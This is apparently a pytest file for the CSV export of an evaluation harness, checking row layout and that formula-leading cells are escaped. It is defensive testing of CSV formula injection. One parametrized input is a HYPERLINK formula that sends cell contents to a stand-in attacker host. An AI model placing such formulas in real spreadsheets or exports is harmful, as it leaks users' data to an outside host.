"""The CSV export: one row per question, variants side by side, nothing a spreadsheet would run."""

from __future__ import annotations

import pytest

from oraculo.evaluation.export import report_csv
from tests.oraculo.evaluation.test_harness import hand_result


def test_csv_export_has_one_row_per_question_with_variants_side_by_side():
    results = [
        hand_result(
            base_tokens=180,
            trim_tokens=95,
            base_ids=[1, 2, 3],
            trim_ids=[1, 2],
            expected="x",
            base_hit=True,
            trim_hit=False,
        )
    ]
    text = report_csv({"summary": {"variants": ["baseline", "trim"]}, "results": results})
    lines = text.strip().splitlines()
    header = lines[0].split(",")
    assert header[:3] == ["position", "question", "expected_answer"]
    assert "baseline_tokens" in header and "trim_overlap_vs_baseline" in header
    row = dict(zip(header, lines[1].split(",")))
    assert row["baseline_tokens"] == "180" and row["trim_tokens"] == "95"
    assert row["baseline_chunk_ids"] == "1 2 3" and row["trim_overlap_vs_baseline"] == "0.67"
    assert row["baseline_answer_in_context"] == "True" and row["trim_answer_in_context"] == "False"


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example.com/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(text):
    import csv
    import io

    result = hand_result(base_tokens=10, trim_tokens=5, base_ids=[1], trim_ids=[1], expected=text)
    result["question"] = text
    result["variants"]["baseline"]["answer"] = text
    result["error"] = text
    rows = list(
        csv.DictReader(
            io.StringIO(report_csv({"summary": {"variants": ["baseline", "trim"]}, "results": [result]}))
        )
    )
    for field in ("question", "expected_answer", "baseline_answer", "error"):
        assert rows[0][field] == "'" + text
    assert rows[0]["baseline_tokens"] == "10" and rows[0]["trim_top_score"] == "0.9"


def test_csv_keeps_ordinary_text_and_negative_numbers_as_they_are():
    import csv
    import io

    result = hand_result(base_tokens=10, trim_tokens=5, base_ids=[1], trim_ids=[1], expected="a - b = c")
    result["variants"]["baseline"]["top_score"] = -0.25
    rows = list(csv.DictReader(io.StringIO(report_csv({"results": [result]}))))
    assert rows[0]["expected_answer"] == "a - b = c" and rows[0]["baseline_top_score"] == "-0.25"
